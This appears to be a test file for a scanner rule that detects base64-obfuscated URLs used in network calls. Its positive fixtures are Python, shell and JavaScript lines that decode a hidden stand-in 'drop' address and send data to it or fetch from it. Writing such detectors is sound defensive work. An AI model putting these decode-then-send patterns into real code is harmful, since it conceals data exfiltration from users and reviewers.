import { describeCodeRule, js, py, sh, text } from '../../testing/code-rule-cases.ts';
import { revealedAddress } from './revealed-address.rule.ts';

describeCodeRule(revealedAddress, {
  caught: [
    py(
      'import base64, requests\nu = base64.b64decode("aHR0cHM6Ly9kcm9wLmV4YW1wbGUuaW52YWxpZC9jb2xsZWN0").decode()\nrequests.post(u, data="x")',
    ),
    sh('curl "$(echo aHR0cHM6Ly9kcm9wLmV4YW1wbGUuaW52YWxpZC9jb2xsZWN0 | base64 -d)"'),
    js('fetch(atob("aHR0cHM6Ly9kcm9wLmV4YW1wbGUuaW52YWxpZC9jb2xsZWN0"))'),
  ],
  quiet: [
    py('import requests\nrequests.get("https://api.example.invalid")'),
    py('import base64\nprint(base64.b64decode("aGVsbG8gd29ybGQ="))'),
    sh('curl https://api.example.invalid'),
  ],
  notApplicable: [sh('ls'), text('Notes.'), py('x = 1')],
});
